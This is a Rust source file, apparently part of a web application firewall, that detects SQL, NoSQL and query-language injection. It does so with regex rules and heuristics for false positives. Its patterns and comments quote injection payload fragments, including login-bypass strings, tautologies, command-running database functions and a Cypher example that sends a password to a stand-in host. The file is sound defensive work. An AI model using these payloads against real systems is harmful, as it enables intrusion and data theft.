//! SQL injection: libinjection fingerprinting on the decoded variants, plus structural checks
//! (UNION SELECT, tautologies, stacked queries, time/file functions, system tables) over the
//! lower-cased, comment-stripped text.

use super::{Patterns, Sink};
use crate::normalise::Variants;
use crate::rules::*;
use crate::settings::WafError;

pub(crate) struct Sqli {
    patterns: Patterns,
    /// A quote, a boolean operator and a comparison (`' or id>0`), with the left operand
    /// captured: judged with the text around it ([`closes_search_phrase`]).
    quote_tautology: regex::bytes::Regex,
    /// A boolean operator and a column compared with a hex literal (`or role=0x61646d696e`),
    /// the hex captured: judged by what it spells ([`spells_text`]).
    hex_comparison: regex::bytes::Regex,
    /// MySQL's executable comment opening a statement word (`/*!50000select`): read on the
    /// lower-case text, since the compact form drops comments and their markers.
    exec_comment: regex::bytes::Regex,
    /// libinjection's word table, to skip text it cannot flag.
    words: Option<SqlWords>,
    /// In a read statement or a filter expression: `OR` and two literals compared, the
    /// literals and the operator captured (`or 1=1`, `or(2>1)`, `or ''=''`, OData's `or 1 eq
    /// 1`, SCIM's `or "a" eq "a"`), a tautology when the comparison holds
    /// ([`literals_hold`]); or SCIM's match of an empty prefix, part or suffix (`or
    /// userName sw ""`), which every value has.
    statement_tautology: regex::Regex,
    /// A comparison with a literal on its left (`1=2`, `'a'<>'b'`, `1=@@version`), which a
    /// filter written by hand puts on the right, or a number or string standing first as a
    /// condition of its own (`1 and current_user=1`, `"a b" or id=id`): a query parameter
    /// holding one is not taken for a filter expression.
    literal_comparison: regex::Regex,
    /// A comparison with a name on its left (`dc.date > 1900`), which a query parameter
    /// needs to be taken for a filter expression, and the name on its right if there is one
    /// (never the same: `id=id` holds for every row).
    name_comparison: regex::Regex,
    /// In a read statement: the select list after `UNION`, captured up to its `FROM`.
    union_select: regex::Regex,
    /// Injections into the other query languages of data stores, and regular expressions
    /// made to backtrack, read on the lower-case text (comments kept: `//` ends a Cypher or
    /// AQL injection). Part of the detectors' gate over `lower`, and scanned where it matched
    /// ([`super::Detectors::scan`]).
    pub(super) query_languages: Patterns,
}

/// Operand of a comparison in a tautology: a number, a quoted string or a bare word.
const OPERAND: &str =
    r#"(?:[0-9]+|'[^']{0,20}'?|"[^"]{0,20}"?|[a-z_][a-z0-9_]{0,20}|\(\s*[0-9a-z'"])"#;
/// A call as the left operand (`count(/*)`, `length(database())`, XPath's
/// `codepoints-to-string((97,100))`), compared with a symbol only: prose has "and print(x) in
/// ...".
const CALL: &str = r"[a-z_][a-z0-9_-]{0,30}\s*\((?:[^'\x22()]|\([^'\x22()]{0,20}\)){0,40}\)";
/// A number or a quoted string.
const LITERAL: &str = r#"(?:[0-9]+|'[^']{0,20}'?|"[^"]{0,20}"?)"#;
/// Symbolic comparison operators.
const CMP_SYMBOL: &str = r"(?:=|<=>|<>|!=|<=|>=|<|>)";
/// Comparison operators.
const CMP: &str = r"(?:=|<=>|<>|!=|<=|>=|<|>|\s(?:not\s+)?(?:like|rlike|regexp|between|in|is)\s)";

impl Sqli {
    pub(crate) fn new() -> Result<Self, WafError> {
        // After a quote any operand counts; after a `)` a bare word compared with a word
        // operator is prose ("snacks (chips) and drinks in the fridge"), so only literals
        // or symbolic comparisons count there.
        let tautology_quote = format!(
            r#"(?-u)['"`]\s*(?:(?:or|and|xor)\b|\|\||&&)\s*\(?\s*(?:({OPERAND})\s*{CMP}|({CALL})\s*{CMP_SYMBOL})"#
        );
        let tautology_paren = format!(
            r#"\)\s*(?:(?:or|and|xor)\b|\|\||&&)\s*\(?\s*(?:{LITERAL}\s*{CMP}|{OPERAND}\s*{CMP_SYMBOL})"#
        );
        // Without a quote, the comparison must follow what a numeric SQL context can hold
        // (`1234 or 1=1`, `5) and (2>1`): at most three words from the start. After a
        // sentence (`... so 3 < 5 && 7 > 2`) the value cannot be the rest of a query.
        let tautology_num = r"^[^a-z]*(?:[a-z_][a-z0-9_]*[^a-z]*){0,3}?(?:^|[\s(])(?:or|and|xor|\|\||&&)\s+\(?\s*[0-9]+\s*(?:=|<>|!=|<|>)\s*\(?\s*[0-9]+\b";
        let tautology_true = r#"['"`)]\s*(?:or\b|\|\|)\s*(?:true|not\s+false|[1-9][0-9]*)\s*(?:$|--|#|/\*|;|\)|\s(?:limit|order|group|union)\b)"#;
        let rules: Vec<(u32, String)> = vec![
            // MySQL's `DISTINCTROW` too, and `#` or `--` comments ending a line between the
            // words (sqlmap's space2hash: `union#x\ndistinctrow#y\nselect`; in the compact
            // form the line break is a space).
            (SQLI_UNION, r"\bunion(?:\s|(?:#|--)\S*\s)*(?:(?:all|distinct|distinctrow)\b(?:\s|(?:#|--)\S*\s)*)?\(*\s*select\b".to_owned()),
            (SQLI_UNION, r"\bunion\s*\(\s*select\b".to_owned()),
            (SQLI_TAUTOLOGY, tautology_paren),
            (SQLI_TAUTOLOGY, tautology_num.to_owned()),
            (SQLI_TAUTOLOGY, tautology_true.to_owned()),
            // XPath's constant functions after a closed string (`' or true() or '`).
            (
                SQLI_TAUTOLOGY,
                r#"['"]\s*(?:or|\|\|)\s*\(?\s*(?:true\s*\(\s*\)|not\s*\(\s*false\s*\(\s*\)\s*\))"#.to_owned(),
            ),
            (
                SQLI_STACKED,
                r";\s*(?:drop|truncate|alter|create)\s+(?:table|database|schema|user|procedure|function|view|index|trigger)\b".to_owned(),
            ),
            (SQLI_STACKED, r";\s*(?:select|insert|update|delete)\b[^;]{0,120}\b(?:from|into|set|where|values)\b".to_owned()),
            (SQLI_STACKED, r";\s*(?:shutdown|waitfor\s|exec(?:ute)?\s+(?:master|xp_|sp_)|declare\s+@)".to_owned()),
            (
                SQLI_FUNCTION,
                r"\b(?:sleep|pg_sleep|benchmark|load_file|extractvalue|updatexml|randomblob|sys_eval|sys_exec|pg_read_file|pg_ls_dir|lo_import|lo_export|name_const|json_keys|dbms_pipe\.receive_message|dbms_lock\.sleep|utl_http\.request|utl_inaddr\.get_host_\w+|ctxsys\.drithsx\.sn|xp_cmdshell|xp_regread|xp_dirtree|xp_fileexist|sp_executesql|sp_oacreate|sp_makewebtask|sp_password|openrowset|opendatasource)\s*\(".to_owned(),
            ),
            (
                SQLI_FUNCTION,
                r"\b(?:find_in_set|coalesce|concat_ws|group_concat|substring_index|char_length|unhex|ifnull|nullif|isnull|nvl2?|instr|lpad|rpad|strcmp|soundex|export_set|make_set|json_extract|json_object|json_array|json_value|json_query|xmltype|unistr|sys_context|user_name|db_name|schema_name|object_id|object_name|host_name|suser_name|suser_sname|is_srvrolemember|has_dbaccess|current_setting|connection_id|last_insert_id|row_count|found_rows|inet_aton|inet_ntoa|str_to_date|from_base64|to_base64|uncompress|aes_decrypt|aes_encrypt|des_decrypt)\s*\(".to_owned(),
            ),
            // A value that closes its string and ends the statement with a verdict
            // (`';return true;var x='`): JavaScript built from a string, as a `$where` is.
            (
                SQLI_NOSQL,
                r#"^[^'"]*['"]\s*;\s*return\s*(?:true|false|1|0|!0|!1|this)\b"#.to_owned(),
            ),
            // A string closed and joined to a member of the document a `$where` tests
            // (`admin'&&this.password.match(/.*/)//`).
            (
                SQLI_NOSQL,
                r#"['"]\s*(?:&&|\|\|)\s*!?\s*this\s*\.\s*[a-z_$]"#.to_owned(),
            ),
            // A string closed and joined to Oracle's network, file or job packages
            // (`'||UTL_HTTP.REQUEST(...)||'`, `'||dbms_pipe.receive_message`): nothing but an
            // injection puts one after a quote.
            (
                SQLI_FUNCTION,
                r#"['"]\s*\|\|\s*(?:sys\s*\.\s*)?(?:utl_(?:http|inaddr|tcp|smtp|file|dbws)|dbms_(?:pipe|lock|xmlgen|java|ldap|aw|scheduler|xdb)|ctxsys)\b"#.to_owned(),
            ),
            // MySQL's geometry constructors raise an error that shows the value of a subquery
            // given to them. A WKT geometry (`MULTIPOLYGON(((40 40, 20 45, ...)))`) has
            // numbers and nested geometries there, so only a subquery, a string or a variable
            // counts.
            (
                SQLI_FUNCTION,
                r#"\b(?:geometrycollection|multipoint|multilinestring|multipolygon|linestring|polygon)\s*(?:\(\s*)+(?:select\b|['"@]|[a-z_]+\s*(?:\(\s*)+(?:select\b|['"@]))"#.to_owned(),
            ),
            // Not a method called on a member (`doc.created.substr(0, 7)`, JavaScript's and
            // painless's strings): SQL calls these bare.
            (SQLI_FUNCTION, r"(?:^|[^.\w]|[^\w\])]\.)(?:hex|char|chr|concat|substr|substring|ascii|ord|elt|conv|current_user|system_user|session_user|sleep)\(".to_owned()),
            // Postgres's `COPY … TO PROGRAM` and `FROM PROGRAM` run a shell command.
            (SQLI_FUNCTION, r"\bcopy\b[^;]{0,300}?\b(?:to|from)\s+program\s*['$e]".to_owned()),
            // ClickHouse's table functions that run a script, write to another place
            // (`INSERT INTO FUNCTION s3(…) SELECT …`), read the server's files, or reach a
            // database or a host on an internal address (`remote('10.0.0.5:9000', …)`).
            (
                SQLI_FUNCTION,
                r"\bexecutable\s*\(\s*'|\binto\s+function\s+[a-z0-9_]+\s*\(|\bfile\s*\(\s*'(?:/|\.\./)".to_owned(),
            ),
            (
                SQLI_FUNCTION,
                r"\b(?:remote|remotesecure|cluster|postgresql|mysql|mongodb|redis|jdbc|odbc|hdfs|url|s3)\s*\(\s*'(?:[a-z0-9+]+://)?(?:[^'@/]*@)?(?:(?:127|10)(?:\.\d{1,3}){3}|192\.168(?:\.\d{1,3}){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d{1,3}){2}|169\.254(?:\.\d{1,3}){2}|0\.0\.0\.0|localhost\b|\[?::1\]?)".to_owned(),
            ),
            (SQLI_FUNCTION, r"\bwaitfor\s+(?:delay|time)\s+'".to_owned()),
            (SQLI_FUNCTION, r"\binto\s+(?:out|dump)file\b".to_owned()),
            (SQLI_FUNCTION, r"\b(?:xp_cmdshell|xp_regread|xp_dirtree|sp_executesql|sp_oacreate|xp_reg\w+)\b".to_owned()),
            (
                SQLI_SCHEMA,
                r"\b(?:information_schema|mysql\.(?:user|db|host)|pg_catalog|pg_shadow|pg_user|pg_database|sqlite_master|sqlite_schema|sysobjects|syscolumns|sysdatabases|sys\.(?:tables|objects|columns|databases|sql_logins)|msysobjects|msysaccessobjects|all_tables|all_tab_columns|user_tables|dba_users|v\$version)\b".to_owned(),
            ),
            (SQLI_COMMENT, r#"['"`]\s*(?:--|#|/\*|;\s*--|;\s*$|\)\s*--)"#.to_owned()),
            (
                SQLI_OPERATOR,
                r"\b(?:select\s+[a-z0-9_*,@()\s]{1,80}\s+from|insert\s+into|delete\s+from|drop\s+table|update\s+[a-z0-9_.]+\s+set|order\s+by\s+[0-9]+|group\s+by\s+[0-9]+|having\s+[0-9]|case\s+when|select\s+(?:@@|count|char|concat|version|user|database|if|case|substring|ascii)\b)".to_owned(),
            ),
            (
                SQLI_OPERATOR,
                r"\b(?:char|chr|concat|concat_ws|group_concat|substring|substr|mid|ascii|ord|hex|unhex|version|database|schema|user|current_user|system_user|session_user|if|ifnull|isnull|coalesce|cast|convert)\s*\([^)]{0,60}\)\s*(?:=|<|>|,|\)|\|\||\bor\b|\band\b|\bfrom\b)".to_owned(),
            ),
            (SQLI_OPERATOR, r"@@(?:version|datadir|hostname|basedir|tmpdir|user)\b".to_owned()),
            (SQLI_JSON_OPERATOR, r"['\x22)]\s*::\s*(?:int|integer|text|json|jsonb|varchar|bigint|numeric|regclass|oid|bytea)\b".to_owned()),
            (SQLI_JSON_OPERATOR, r"['\x22)]\s*(?:#>>?|@>|<@|\?\||\?&|@\?|@@)\s*['\x22(0-9]".to_owned()),
            // `->` glued to the string: prose writes arrows with spaces ("'teh' -> 'the'").
            (SQLI_JSON_OPERATOR, r"['\x22)]->>?\s*['\x22(0-9]".to_owned()),
            // `admin'-- `, `admin'#`, `root@example.com';`: a login name that closes its string
            // and comments out or ends the password check.
            (SQLI_COMMENT_TAIL, r#"^\s*[a-z0-9_.@+-]{1,64}['"`]\s*\)*\s*(?:--(?:\s|-|$)|#\s*$|/\*|;\s*$)"#.to_owned()),
            (SQLI_JSON_OPERATOR, r"['\x22]\s+\?[|&]?\s+(?:['\x22]|array\s*\[)|['\x22]\s*(?:[<>=!]=?|->>?)\s*['\x22]\$[.\[]".to_owned()),
            // SQL's IF() comparing (`if(1=1,…)`), but not a spreadsheet formula's: a value
            // that opens with `=IF(B2>100,…)` has nothing before its `=` for SQL to compare.
            // After its condition comes a `,` (the function), a statement (T-SQL's `IF (1=1)
            // WAITFOR …`), the end or punctuation; a name or a block is C's or JavaScript's
            // (`if (argc > 1) strncpy(…)`, `if (n > 0) {`). What it compares is a literal or
            // what the server is (`user`, `version`, `@@datadir`): a rating formula's
            // `if(driver_age < 25, 1.5, 1)` compares a field.
            (
                SQLI_STATEMENT,
                r"\bgroup\s+by\b[^;]{0,120}\bhaving\b|\b(?:create|alter)\s+table\s+[a-z_`\x22\[]|\b(?:insert|replace)\s+into\s+[a-z_`\x22\[][^\s(]{0,60}\s*\(|\bexecute\s+immediate\b|\bprocedure\s+analyse\s*\(|\bdeclare\s+@[a-z]|\bexec\s*\(\s*@|(?:^|[^=\s]\s*|\S\s*=\s*)\bif\s*\(\s*(?:[0-9]+|'[^']{0,40}'|\x22[^\x22]{0,40}\x22|[a-z_]*user|version|database|schema|@@[a-z_]+)\s*(?:=|<|>|<>|!=)[^()]*(?:,|$|\)\s*(?:$|[^a-z0-9_\s{]|(?:select|waitfor|exec|execute|begin|drop|insert|update|delete|declare|set|raiserror|shutdown)\b))|\)\s*(?:like|rlike|regexp)\s*\(|[`\x22]\s+as\s+[`\x22][^`\x22]{0,40}[`\x22]?\s+from\b|\bpg_sleep\b".to_owned(),
            ),
            // SQL's argument-less functions, not a method (`Date.now()`) nor an object whose
            // member is read (`now().hour` in a Jinja template).
            (
                SQLI_STATEMENT,
                r"(?:^|[^.\w])(?:database|user|version|schema|current_user|session_user|system_user|sysdate|now|rand|pi|connection_id|last_insert_id|row_count|found_rows|uuid)\s*\(\s*\)(?:$|[^.\w])|\b(?:tempdb|msdb|northwind\.(?:dbo|\.\w+)|pubs\.dbo|master\.dbo|master\.\.sys\w+)\b|\blo_get\s*\(".to_owned(),
            ),
            // A column name that closes the aggregate or function it is put in and goes on
            // with a table of its own (`age) FROM users WHERE admin = 't';--`, Rails'
            // `calculate(:sum, params[:column])`): a name, a `)`, then `FROM` a name and a
            // `WHERE`, a comment or a `;`.
            (
                SQLI_STATEMENT,
                r"^\s*[a-z_][a-z0-9_.]{0,60}\s*\)\s*from\s+[a-z_][a-z0-9_.`\x22]*\s*(?:where\b|;|--|/\*)".to_owned(),
            ),
            // A subquery whose select list is an expression (`(SELECT CASE WHEN (1=1) THEN 1
            // ELSE 1/0 END)`, `(select 1 from …)`), not prose in brackets (`(select one)`).
            (
                SQLI_STATEMENT,
                r#"\(\s*select\s+(?:case\s+when\b|if\s*\(|[0-9'"@(]|\*\s*from\b|(?:count|char|concat|sleep|user|version|database|substring|substr|ascii|hex|benchmark)\s*\()"#.to_owned(),
            ),
            (SQLI_JSON_OPERATOR, r"\b[0-9]+\.e[0-9]*\s*[(,]|[0-9]e[0-9]*(?:union|select|from|or|and)\b".to_owned()),
            (SQLI_OPERATOR, r#"['"`]\s*(?:[|&]{2}|\bor\b|\band\b|\bxor\b|\bdiv\b|\blike\b|\brlike\b|\bregexp\b|\bsounds\s+like\b)\s*['"`(0-9a-z@]"#.to_owned()),
            (SQLI_QUOTE_BREAKOUT, r#"['"`]\s*(?:\)\s*)*;?\s*(?:union|select|insert|update|delete|drop|exec|execute|declare|having|group\s+by|order\s+by|waitfor|shutdown)\b"#.to_owned()),
            (
                SQLI_KEYWORD_LOOSE,
                r"\b(?:select|union|insert|update|delete|drop|alter|exec|execute|declare|truncate|having|where|sleep|benchmark)\b".to_owned(),
            ),
        ];
        let refs: Vec<(u32, &str)> = rules.iter().map(|(id, p)| (*id, p.as_str())).collect();
        Ok(Self {
            patterns: Patterns::new(&refs)?,
            quote_tautology: regex::bytes::Regex::new(&tautology_quote)
                .map_err(|e| WafError::Pattern(e.to_string()))?,
            hex_comparison: regex::bytes::Regex::new(
                r"(?-u)\b(?:or|and|xor|where|having)\s+\(?\s*[a-z_][a-z0-9_.]*\s*(?:=|<>|!=|\slike\s|\sin\s*\(\s*)0x([0-9a-f]{6,})\b",
            )
            .map_err(|e| WafError::Pattern(e.to_string()))?,
            exec_comment: regex::bytes::Regex::new(
                r"(?-u)/\*![0-9]*\s*(?:select|union|and|or|xor|from|where|having|insert|update|delete|drop|sleep|benchmark|if|case|order|group|limit)\b",
            )
            .map_err(|e| WafError::Pattern(e.to_string()))?,
            words: SqlWords::new(),
            statement_tautology: regex::Regex::new(
                r#"(?:\bor|\|\|)[\s(]*(?:(\d+(?:\.\d+)?|'[^']{0,40}'|"[^"]{0,40}")[\s)]*(==|=|<=>|<>|!=|<=|>=|<|>|\b(?:eq|ne|lt|le|gt|ge|i?like)\b)[\s(]*(\d+(?:\.\d+)?|'[^']{0,40}'|"[^"]{0,40}")|(true|not\s+false)\b|([\w.:\[]+\s+(?:sw|co|ew)\s+(?:""|'')))"#,
            )
            .map_err(|e| WafError::Pattern(e.to_string()))?,
            literal_comparison: regex::Regex::new(
                r#"(?:^|[^a-z0-9_.'"])(?:\d+(?:\.\d+)?|'[^']{0,40}'|"[^"]{0,40}")[\s)]*(?:==|=|<=>|<>|!=|<=|>=|<|>|\b(?:eq|ne|lt|le|gt|ge|i?like)\b)|^[\s(]*(?:\d+|'[^']*'|"[^"]*")[\s)]+(?:and|or|&&|\|\|)"#,
            )
            .map_err(|e| WafError::Pattern(e.to_string()))?,
            name_comparison: regex::Regex::new(
                r"(?:^|[\s(])([a-z_][a-z0-9_.:-]*)\s*(?:[=<>]|!=)=?\s*([a-z_][a-z0-9_.:-]*)?",
            )
                .map_err(|e| WafError::Pattern(e.to_string()))?,
            query_languages: Patterns::new(&[
                // Cypher and AQL: a string closed, then `RETURN` and what takes more than the
                // query asked (a `UNION` with a query of its own, AQL's `DOCUMENT()`, or a `//`
                // comment cutting the query's own rest off).
                (
                    SQLI_QUERY_LANGUAGE,
                    r#"['"]\s*\)?\s*return\s[^\n]{0,300}?(?://\s*$|\bunion\s+(?:all\s+)?(?:match|call|for|optional|with|return|unwind|\()|\bdocument\s*\()"#,
                ),
                (
                    SQLI_QUERY_LANGUAGE,
                    r#"['"]\s*\)?\s*(?:union\s+(?:all\s+)?(?:match|call|for|optional)\b|call\s+(?:db|dbms|apoc)\.)"#,
                ),
                // ArangoDB's system collections (`FOR u IN _users`, `DOCUMENT("_users/root")`).
                (
                    SQLI_QUERY_LANGUAGE,
                    r#"\bin\s+_(?:users|graphs|modules|jobs|queues|frontend|apps|aqlfunctions|analyzers)\b|\bdocument\s*\(\s*['"]_users/"#,
                ),
                // Cypher's `LOAD CSV FROM` a URL with a value joined on (`'https://x/?p=' +
                // u.password`): the server sends what it read to that host.
                (
                    SQLI_QUERY_LANGUAGE,
                    r#"\bload\s+csv\b[^\n]{0,80}?\bfrom\s*['"][a-z]+://[^'"]*['"]\s*\+"#,
                ),
                // A value that closes a bracket it never opened and joins a clause of its own
                // (`published) OR (_exists_:password_hash`): a search or filter string breaking
                // out of the application's brackets.
                (
                    SQLI_QUERY_LANGUAGE,
                    r#"^[^(]*[\w'"]\)\s*(?:or|and|\|\||&&)\s*\(\s*[\w.]+\s*(?::|=|!=|<|>)"#,
                ),
                // PromQL and LogQL: a label value that closes a matcher it never opened and
                // adds a selector or a pipeline (`checkout"} or {__name__=~".+"}`, `x"} |=
                // ""`); a whole query opens its own (`{app="web"} |= "error"`).
                (
                    SQLI_QUERY_LANGUAGE,
                    r#"^[^{]*['"]\s*\}\s*(?:(?:or|and|unless)\s+[\w{]|\|\s*[=~])"#,
                ),
                // A group holding one quantified atom, quantified again (`(a+)+`, `(\w+\s?)*`,
                // `(([a-z])+.)+`): a backtracking engine takes exponential time to fail on it.
                // A literal between the repeats (`([a-z0-9-]+\.)*`) is no such group.
                (
                    PROTO_REDOS,
                    r"\((?:\?:)?(?:\\[a-z]|\[[^\]]{1,30}\]|\([^()]{1,30}\)|[a-z0-9.])[+*](?:(?:\\[a-z]|\[[^\]]{1,30}\]|[a-z0-9.])[?*]|\.)?\)(?:[+*]|\{\d+,\d*\})",
                ),
            ])?,
            union_select: regex::Regex::new(
                r"(?s)\bunion\s+(?:all\s+|distinct\s+)?\(?\s*select\b(.{0,400}?)\bfrom\b",
            )
            .map_err(|e| WafError::Pattern(e.to_string()))?,
        })
    }

    /// [`Sqli::scan`] for a parameter's value. The filter languages of API conventions
    /// (OData's `$filter`, Jira's `jql`, SCIM's `filter`) are comparisons joined by `and` and
    /// `or`, which libinjection and the tautology rule read as SQL: in those parameters a
    /// well-formed expression ([`filter_expression`]) skips those two and gets every other
    /// SQL rule (statements, functions, comments, subqueries). The query parameters of SQL
    /// endpoints (`query` of ClickHouse and Elasticsearch's `_sql`, InfluxDB's `q`, Pinot's
    /// `sql`, a Trino statement as the body) hold whole statements: a well-formed read
    /// ([`read_statement`]) skips the paranoia-1 rules that read a statement's shape as an
    /// injection (libinjection, tautology, `UNION`, `GROUP BY … HAVING`), and gets those for
    /// what it calls and reads (functions that sleep, run or read files, schema tables,
    /// comments, stacked statements), those for what injections leave in a statement
    /// ([`Sqli::statement_injection`]), and from paranoia 2 the operator rules, which flag
    /// any statement. A value that breaks out of a string,
    /// or has a comment or `;`, is read as any other.
    pub(crate) fn scan_value(&self, label: &str, v: &Variants, sink: &mut Sink<'_>) {
        let param = super::param_name(label);
        // A `$where` parameter holding JavaScript rather than SoQL: an application that hands
        // its query string to MongoDB as a filter runs it.
        if param == "$where" && !label.starts_with("json:") && script_expression(v.lower()) {
            sink.hit(SQLI_NOSQL, v.lower(), 0);
        }
        // A value holding a bracketed operator (`[$lte]x`, `user[$ne]=1`) is a query string
        // the application parses again, into a query.
        if let Some(at) = bracketed_operator(v.lower()) {
            sink.hit(SQLI_NOSQL, v.lower(), at);
        }
        let ends_with = |p: &&str| {
            param
                .len()
                .checked_sub(p.len())
                .is_some_and(|at| param.as_bytes()[at..].eq_ignore_ascii_case(p.as_bytes()))
        };
        let statement_param = STATEMENT_PARAMS
            .iter()
            .any(|p| p.eq_ignore_ascii_case(param))
            || STATEMENT_SUFFIXES.iter().any(ends_with);
        // A filter parameter by name (or name's end), or a search parameter holding a filter
        // expression that compares names, never a name with itself nor a literal on the
        // left (a library's CQL `dc.title = "moby dick" and dc.date > 1900`).
        let filter_param = FILTER_PARAMS.iter().any(|p| p.eq_ignore_ascii_case(param))
            || FILTER_SUFFIXES.iter().any(ends_with)
            || ((param.eq_ignore_ascii_case("q") || ends_with(&"query"))
                && memchr::memchr3(b'=', b'<', b'>', v.lower().as_bytes()).is_some()
                && self.names_compared(v.lower())
                && filter_expression(v.norm())
                && !self.literal_comparison.is_match(v.lower()));
        // In a filter parameter, well formed or not (`lastname eq 'x' or 1 eq 1 or lastname
        // eq '`, which the application's own quote closes), and in any value written with a
        // filter language's operators (Okta's `search`, the `path` of a SCIM patch).
        let checked = filter_param || filter_words(v.lower());
        if checked {
            self.statement_injection(v.lower(), sink);
        }
        let shape_only: &[u32] = if filter_param && filter_expression(v.norm()) {
            &[SQLI_LIBINJECTION, SQLI_TAUTOLOGY]
        } else if statement_param && read_statement(v.norm()) {
            if !checked {
                self.statement_injection(v.lower(), sink);
            }
            &[
                SQLI_LIBINJECTION,
                SQLI_TAUTOLOGY,
                SQLI_UNION,
                SQLI_STATEMENT,
            ]
        } else {
            return self.scan(v, sink);
        };
        let outer = sink.enabled;
        let enabled = |id: u32| !shape_only.contains(&id) && outer(id);
        let mut inner = Sink {
            enabled: &enabled,
            hits: std::mem::take(&mut sink.hits),
        };
        self.scan(v, &mut inner);
        sink.hits = inner.hits;
    }

    pub(crate) fn scan(&self, v: &Variants, sink: &mut Sink<'_>) {
        if sink.wants(SQLI_LIBINJECTION) && !libinjection_misreads(v.norm()) {
            let flagged = |raw: &[u8], norm: &[u8]| {
                self.libinjection(raw) || (norm != raw && self.libinjection(norm))
            };
            if flagged(v.raw.as_bytes(), v.norm().as_bytes()) {
                // `#` before a letter or digit, at the start or after a space, numbers a unit
                // (`500 Select Ave #3`, `Apt #12B`) where libinjection reads MySQL's comment.
                // In text without quotes (nothing to break out of), when the text with those
                // written as `N` is not flagged, the comment was the whole finding.
                let unit = |t: &str| {
                    if t.contains(['\'', '"', '`']) {
                        return None;
                    }
                    let b = t.as_bytes();
                    let at: Vec<usize> = memchr::memchr_iter(b'#', b)
                        .filter(|&i| {
                            (i == 0 || b[i - 1] == b' ')
                                && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric)
                        })
                        .collect();
                    (!at.is_empty()).then(|| {
                        let mut n = b.to_vec();
                        for i in at {
                            n[i] = b'N';
                        }
                        n
                    })
                };
                let misread = match (unit(&v.raw), unit(v.norm())) {
                    (Some(raw), Some(norm)) => !flagged(&raw, &norm),
                    _ => false,
                };
                if !misread {
                    sink.hit(SQLI_LIBINJECTION, v.norm(), 0);
                }
            }
        }
        self.patterns.scan(v.compact(), sink);
        if sink.wants(SQLI_EXEC_COMMENT)
            && memchr::memmem::find(v.lower().as_bytes(), b"/*!").is_some()
            && let Some(m) = self.exec_comment.find(v.lower().as_bytes())
        {
            sink.hit(SQLI_EXEC_COMMENT, v.lower(), m.start());
        }
        // `UN/**/ION SEL/**/ECT`: keywords split by comments, which come together again
        // behind a filter that strips comments. Read as they would be there.
        if let Some(joined) = comments_joined(v.lower()) {
            self.patterns
                .scan(&crate::normalise::compact_sql(&joined), sink);
        }
        // The quote-led tautology runs apart from the pattern set (its matches are judged with
        // the text around them), so only on text with a quote.
        let text = v.compact();
        if sink.wants(SQLI_TAUTOLOGY)
            && memchr::memchr3(b'\'', b'"', b'`', text.as_bytes()).is_some()
        {
            // The compact form drops SQL comments; in XPath `/*` is a path (`count(/*)=1`),
            // so text with one is also read as written.
            let lower = v.lower();
            let as_written = (lower.contains("/*") && lower != text).then_some(lower);
            let found = std::iter::once(text).chain(as_written).find_map(|t| {
                self.quote_tautology
                    .captures_iter(t.as_bytes())
                    .take(16)
                    .find_map(|c| {
                        let (whole, left) = (c.get(0)?, c.get(1).or_else(|| c.get(2))?);
                        (!closes_search_phrase(t.as_bytes(), whole.start(), whole.end(), left))
                            .then_some((t, whole.start()))
                    })
            });
            if let Some((t, at)) = found {
                sink.hit(SQLI_TAUTOLOGY, t, at);
            }
        }
        // MySQL and MSSQL read `0x61646d696e` as the string `admin`: a string compared
        // without a quote, in a numeric context where quotes would be escaped.
        if sink.wants(SQLI_TAUTOLOGY) && text.contains("0x") {
            let found = self
                .hex_comparison
                .captures_iter(text.as_bytes())
                .take(16)
                .find(|c| c.get(1).is_some_and(|h| spells_text(h.as_bytes())));
            if let Some(c) = found {
                sink.hit(SQLI_TAUTOLOGY, text, c.get(0).map_or(0, |m| m.start()));
            }
        }
    }

    /// Names (parameter names, JSON keys): NoSQL operator injection. Query documents of
    /// MongoDB, Strapi, Feathers and vector databases put operators in names all day
    /// (`{"year": {"$gte": 2020}}`, `filters[title][$eq]=x`): an operator counts at paranoia
    /// level 1 only where no filter needs one. That is an operator that runs JavaScript on
    /// the server (`$where`, `$function`, `$accumulator`); an aggregation stage that reads or
    /// writes another collection (`$lookup`, `$graphLookup`, `$unionWith`, `$out`, `$merge`);
    /// one applied to a secret (`{"password": {"$ne": null}}`, `token[$regex]=^a`), or one
    /// other than `$eq` and `$in` applied to a login name or an owner (`username[$ne]=x`,
    /// `{"owner": {"$gt": ""}}`); an operator that is a JSON body's
    /// top-level key or the whole of a JSON cookie or field (`{"$nor": ...}`, `j:{"$gt":""}`:
    /// the document is itself a query; `$and` and `$or` there are how a search screen
    /// combines its filters); and, in a query string or
    /// form, where brackets make objects the application may never have asked for, an
    /// operator other than the comparisons filter URLs use (`id[$ne]=2`, `q[$regex]=.*`); and
    /// an operator document that is an element of a list no operator owns (`"params":
    /// [{"$gt": ""}]`, a method's positional argument).
    /// Any other operator counts from level 2 (2114). A query or form parameter named
    /// `$where` alone is Socrata's SoQL filter: its value is read as a filter
    /// ([`Sqli::scan_value`]).
    pub(crate) fn scan_name(&self, label: &str, v: &Variants, sink: &mut Sink<'_>) {
        if !sink.wants(SQLI_NOSQL) && !sink.wants(SQLI_NOSQL_LOOSE) {
            return;
        }
        let Some((op, parent)) = nosql_operator(v.lower()) else {
            return;
        };
        // A JSON key applies to the key above it: in a body (`json:/password/$ne`) or in JSON
        // embedded in a cookie or a field (`cookie:session:/sid/$ne`).
        let json_path = label.find(":/").map(|i| &label[i + 1..]);
        // Form fields of a multipart body are parsed into objects as a query's are (`qs`
        // behind multer and busboy).
        let parameter = json_path.is_none()
            && (label.starts_with("query:")
                || label.starts_with("form:")
                || label.starts_with("multipart:"));
        let parent = parent.or_else(|| {
            let mut segments = json_path?.rsplit('/');
            segments.next();
            segments.next()
        });
        let script = matches!(op, "$where" | "$function" | "$accumulator");
        // Aggregation stages that read or write another collection: a pipeline taken from a
        // request joins the users collection (`$lookup`) or overwrites one (`$out`).
        let other_collection = matches!(
            op,
            "$lookup" | "$graphlookup" | "$unionwith" | "$out" | "$merge"
        );
        let filter_op = matches!(
            op,
            "$eq" | "$in" | "$gt" | "$gte" | "$lt" | "$lte" | "$and" | "$or"
        );
        // An operator document as an element of a list that is no operator's (`"params":
        // [{"$gt": ""}, "new password"]`): a positional argument, a token or a name, handed
        // to the database as a query. Lists of operator documents belong to operators
        // (`{"$and": [{"$gt": ["$qty", 5]}, …]}`).
        let argument = parent
            .is_some_and(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()))
            && json_path.is_some_and(|path| {
                let mut segments = path.rsplit('/').skip(2);
                !segments.next().is_some_and(|list| list.starts_with('$'))
            });
        let strict = (script && !(parameter && parent.is_none()))
